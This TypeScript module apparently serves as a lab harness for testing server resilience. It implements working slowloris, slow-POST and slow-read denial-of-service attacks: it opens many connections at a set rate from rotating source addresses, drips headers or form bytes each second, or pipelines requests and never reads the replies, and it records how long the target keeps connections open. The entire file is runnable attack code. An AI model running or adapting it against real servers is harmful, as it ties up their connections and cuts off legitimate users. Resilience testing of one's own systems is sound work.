import net from 'node:net';

// Slowloris, slow POST and slow read: hold connections open as cheaply as possible for the attacker.
// New connections arrive at `rate`/s up to `maxConnections` open at once; each trickles a byte group per
// second. What matters is how long the target lets them live and whether it still serves legit users.

export type SlowKind = 'slowloris' | 'slow-post' | 'slow-read';

export interface SlowStats {
  opened: number;
  connect_errors: number;
  closed_by_target: number;
  /** Connections the target answered with a status line (408/400/413…) before closing. */
  answered: number;
  max_open: number;
  /** Median seconds a connection lived before the target closed it (null: none closed). */
  median_lifetime_s: number | null;
}

export interface SlowAttack {
  stop(): SlowStats;
}

export function startSlowAttack(o: {
  kind: SlowKind;
  host: string;
  port: number;
  rate: number;
  maxConnections: number;
  source: (k: number) => string;
}): SlowAttack {
  const open = new Set<net.Socket>();
  const lifetimes: number[] = []; // bounded below
  const s: SlowStats = {
    opened: 0,
    connect_errors: 0,
    closed_by_target: 0,
    answered: 0,
    max_open: 0,
    median_lifetime_s: null,
  };
  let stopping = false;
  let k = 0;
  const spawn = () => {
    if (open.size >= o.maxConnections) return;
    const sock = net.connect({ host: o.host, port: o.port, localAddress: o.source(k++) });
    const born = performance.now();
    open.add(sock);
    if (open.size > s.max_open) s.max_open = open.size;
    let drip: NodeJS.Timeout | undefined;
    sock.on('connect', () => {
      s.opened++;
      const head = `${o.kind === 'slow-post' ? 'POST /api/accounts' : 'GET /status'} HTTP/1.1\r\nHost: ${o.host}\r\nUser-Agent: Mozilla/5.0\r\nx-lab-attack: 1\r\n`;
      if (o.kind === 'slowloris') sock.write(head);
      else if (o.kind === 'slow-post')
        sock.write(`${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n`);
      else {
        // slow read: pipeline many requests, then never read the answers.
        sock.write(`${head}\r\n`.repeat(64));
        sock.pause();
      }
      drip = setInterval(() => {
        if (o.kind === 'slowloris') sock.write(`x-${k % 97}: ${k % 89}\r\n`);
        else if (o.kind === 'slow-post') sock.write('a=b&');
      }, 1000);
    });
    sock.on('data', (d: Buffer) => {
      if (d.subarray(0, 5).toString('latin1') === 'HTTP/') s.answered++;
    });
    sock.on('error', () => {
      if (!sock.connecting) return;
      s.connect_errors++;
    });
    sock.on('close', () => {
      if (drip) clearInterval(drip);
      open.delete(sock);
      if (!stopping) {
        s.closed_by_target++;
        if (lifetimes.length < 100_000) lifetimes.push((performance.now() - born) / 1000);
      }
    });
  };
  const period = Math.max(1, 1000 / o.rate);
  const perTick = Math.max(1, Math.round(o.rate / 1000)); // above 1000/s, several per 1 ms tick
  const timer = setInterval(() => {
    for (let i = 0; i < perTick; i++) spawn();
  }, period);
  return {
    stop() {
      stopping = true;
      clearInterval(timer);
      for (const sock of open) sock.destroy();
      open.clear();
      if (lifetimes.length > 0) {
        lifetimes.sort((a, b) => a - b);
        s.median_lifetime_s = Math.round(lifetimes[Math.floor(lifetimes.length / 2)] * 10) / 10;
      }
      return { ...s };
    },
  };
}
